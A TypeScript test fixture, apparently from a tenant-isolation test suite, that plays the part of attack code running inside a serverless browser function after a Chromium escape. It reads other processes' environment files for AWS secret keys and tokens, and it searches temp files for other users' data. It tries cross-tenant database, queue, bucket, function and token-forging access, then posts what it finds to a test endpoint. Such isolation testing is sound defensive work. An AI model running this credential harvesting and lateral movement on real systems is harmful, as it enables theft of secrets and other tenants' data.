/**
 * The attack code of a page that broke out of Chromium. It runs in the browser function's process
 * instead of the function's code, and tries every address, file and credential that it finds. It
 * sends its findings to the address of the target form, which the test serves.
 */
import {
  DynamoDBClient,
  GetItemCommand,
  ListTablesCommand,
  ScanCommand,
} from '@aws-sdk/client-dynamodb';
import {
  GetObjectCommand,
  ListBucketsCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { ListQueuesCommand, ReceiveMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInvokeBrowser } from '../../../functions/browser-calls/invoke-browser.ts';
import type { BrowserAnswer, BrowserCall } from '../../../contract/browser-call.ts';
import {
  lambdaEndpoint,
  readAwsIdentity,
} from '../../../functions/environment/read-environment.ts';
import type { Findings, Spoils } from './findings.ts';

/**
 * The e-mail addresses of all leads that this process has received. Kept between calls, because
 * leads of two users here would show that the users share a process.
 */
const met: string[] = [];

export async function handler(
  call: BrowserCall,
  { tenantId = '' }: { tenantId?: string },
): Promise<BrowserAnswer> {
  met.push(call.lead.email);
  const spoils = (await (await fetch(`${call.target.url}/spoils`)).json()) as Spoils;
  const findings: Findings = {
    tenantId,
    met,
    names: Object.keys(call).sort(),
    lead: Object.keys(call.lead).sort(),
    environment: Object.keys(process.env).sort(),
    environments: readEnvironments(),
    files: filesWith(spoils.marks),
    tries: await tryAll(call, spoils),
  };
  await fetch(`${call.target.url}/findings`, { method: 'POST', body: JSON.stringify(findings) });
  return { kind: 'stopped' };
}

/** Reads the environment variables of other processes of this uid. */
function readEnvironments(): string[] {
  if (process.platform !== 'linux') return [];
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .flatMap((id) => {
      try {
        const variables = readFileSync(`/proc/${id}/environ`, 'utf8').split('\0');
        return variables.filter((one) => /^AWS_(SECRET_ACCESS_KEY|SESSION_TOKEN)=/.test(one));
      } catch {
        return [];
      }
    });
}

/** The files in the temporary folder that contain data of another lead. */
function filesWith(marks: string[], folder = tmpdir()): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && !entry.parentPath.includes('form-bot-chromium'))
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((file) => {
      const content = readFileSync(file);
      return marks.some((mark) => content.includes(mark));
    });
}

async function tryAll(call: BrowserCall, spoils: Spoils): Promise<Record<string, string>> {
  const { table, key, queue, bucket, picture } = spoils;
  const [database, queues] = [new DynamoDBClient({}), new SQSClient({})];
  const buckets = new S3Client({ forcePathStyle: true });
  const object = { Bucket: bucket, Key: picture };
  const invoke = (functionName: string, tenant: string) =>
    createInvokeBrowser({
      functionName,
      endpoint: lambdaEndpoint(),
      identity: readAwsIdentity(),
      waitMs: 60_000,
    })(tenant, call).then((end) => ('cause' in end ? Promise.reject(end.cause) : end));
  const tries: Record<string, () => Promise<unknown>> = {
    'list tables': () => database.send(new ListTablesCommand({})),
    'scan the rows': () => database.send(new ScanCommand({ TableName: table })),
    'read a row': () => database.send(new GetItemCommand({ TableName: table, Key: key })),
    'list queues': () => queues.send(new ListQueuesCommand({})),
    'take a message': () => queues.send(new ReceiveMessageCommand({ QueueUrl: queue })),
    'list buckets': () => buckets.send(new ListBucketsCommand({})),
    'read a picture': () => buckets.send(new GetObjectCommand(object)),
    'write a picture': () => buckets.send(new PutObjectCommand({ ...object, Body: 'x' })),
    'invoke itself for another': () => invoke(spoils.browserFunction, spoils.userId),
    'invoke the bot': () => invoke(spoils.botFunction, spoils.userId),
    'post under another name': () => postAs(call, picture),
    'open a made-up fence': () => askFence(call, `${'x'.repeat(43)}.${spoils.id}.${spoils.userId}`),
    'open another’s fence by its own secret': () =>
      askFence(call, `${call.fence.token.slice(0, 43)}.${spoils.id}.${spoils.userId}`),
    'read the dashboard': () => refusedUnlessOk(fetch(spoils.graphqlUrl, graphqlRequest)),
    'read by the webhook': () => refusedUnlessOk(fetch(`${spoils.webhookUrl}/${spoils.id}`)),
  };
  const results: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(tries)) {
    results[name] = await attempt().then(
      (got) => `GOT ${JSON.stringify(got)?.slice(0, 200)}`,
      (error: Error) => `${error.name}: ${error.message}`,
    );
  }
  return results;
}

const graphqlRequest = {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: '{"query":"{ listSubmissions { items { id } } }"}',
};

async function postAs({ picture }: BrowserCall, key: string): Promise<unknown> {
  const form = new FormData();
  for (const [name, value] of Object.entries({ ...picture.fields, key })) form.append(name, value);
  form.append('file', new Blob(['x']));
  return refusedUnlessOk(fetch(picture.url, { method: 'POST', body: form }));
}

async function askFence({ fence }: BrowserCall, token: string): Promise<unknown> {
  const headers = { 'content-type': 'application/json' };
  const body = JSON.stringify({ token });
  const answer = await refusedUnlessOk(fetch(fence.url, { method: 'POST', headers, body }));
  if (answer === '{"go":false}') throw new Error('stop');
  return answer;
}

async function refusedUnlessOk(request: Promise<Response>): Promise<string> {
  const response = await request;
  const text = await response.text();
  if (!response.ok) throw new Error(`status ${response.status}`);
  return text;
}
